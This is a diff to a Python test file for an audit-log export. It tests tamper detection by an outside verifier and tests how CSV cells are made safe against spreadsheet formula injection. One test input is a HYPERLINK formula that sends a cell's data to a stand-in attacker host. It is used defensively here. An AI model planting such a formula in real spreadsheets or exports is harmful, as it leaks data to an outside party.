@@ -120,11 +120,13 @@ def test_a_complete_export_verifies_outside_the_app_and_a_changed_byte_does_not(
 
     good = verify_outside(text, tmp_path)
     bad = verify_outside(text.replace('"reason": "checked"', '"reason": "checkeD"', 1), tmp_path)
+    forged = verify_outside(text.replace('"action": "approve"', '"action": "restore"', 1), tmp_path)
     short = verify_outside("\n".join(text.splitlines()[:-1]) + "\n", tmp_path)
 
     assert good.returncode == 0, good.stderr
     assert "all 6 rows verified, a complete chain up to its head #6" in good.stdout
-    assert bad.returncode == 1 and "the row was edited or forged" in bad.stderr
+    assert bad.returncode == 1 and "its reason was edited (it no longer matches its keyed hash)" in bad.stderr
+    assert forged.returncode == 1 and "the row was edited or forged" in forged.stderr
     assert (
         short.returncode == 1
         and "the export ends at #5, but the chain's head it recorded is #6" in short.stderr
@@ -166,7 +168,9 @@ def test_the_csv_export_has_a_row_a_transition_with_its_hashes(client, auditor, 
     client.force_login(auditor)
     response = client.get("/t/acme/audit/export.csv")
     lines = b"".join(response.streaming_content).decode().splitlines()
-    assert lines[0].startswith("tenant_id,seq,memory_id") and lines[0].endswith("key_id,created_at,hash")
+    assert lines[0].startswith("tenant_id,seq,memory_id") and lines[0].endswith(
+        "key_id,created_at,reason,request_id,erased_by,hash"
+    )
     assert len(lines) == 7
 
 
@@ -206,4 +210,41 @@ def test_a_csv_export_verifies_outside_the_app_too(client, auditor, history, tmp
     bad = subprocess.run(run, capture_output=True, text=True)
 
     assert good.returncode == 0 and "all 6 rows verified" in good.stdout, good.stderr
-    assert bad.returncode == 1 and "edited or forged" in bad.stderr
+    assert bad.returncode == 1 and "its reason was edited" in bad.stderr
+
+
+@pytest.mark.parametrize(
+    "typed",
+    ['=HYPERLINK("http://evil.example/?d="&A1,"details")', "+1+1", "-2+3", "@SUM(A1:A9)", "'quoted"],
+)
+def test_a_reason_a_spreadsheet_would_run_is_exported_inert_and_still_verifies(
+    client, auditor, lead, acme, typed, tmp_path
+):
+    """OWASP's CSV injection: a cell starting with = + - @ tab or CR gets a ' in front, and so does
+    one starting with ' itself, so the tool reads every cell back exactly by dropping one."""
+    import csv
+    import io
+
+    memory = make_memory(acme)
+    transition(obj=memory, action="freeze", actor=Actor.user(lead), reason=typed, seen_version=1)
+    client.force_login(auditor)
+    exported = b"".join(client.get("/t/acme/audit/export.csv").streaming_content).decode()
+    (path := tmp_path / "audit.csv").write_text(exported, newline="")
+
+    rows = list(csv.DictReader(io.StringIO(exported)))
+    verified = subprocess.run(
+        [sys.executable, "-S", str(TOOL), str(path), "--key", TEST_AUDIT_KEY, "--key-id", TEST_AUDIT_KEY_ID],
+        capture_output=True, text=True,
+    )  # fmt: skip
+
+    assert rows[-1]["reason"] == "'" + typed
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
+    assert verified.returncode == 0 and "all 1 rows verified" in verified.stdout, verified.stderr
+
+
+def test_every_cell_a_spreadsheet_would_run_gets_a_quote_and_nothing_else_changes():
+    from memory_review.audit.exports import spreadsheet_safe
+
+    assert [spreadsheet_safe(v) for v in ("=1", "+1", "-1", "@a", "\tb", "\rc", "'d", "e=1", None, 7)] == [
+        "'=1", "'+1", "'-1", "'@a", "'\tb", "'\rc", "''d", "e=1", "", "7",
+    ]  # fmt: skip
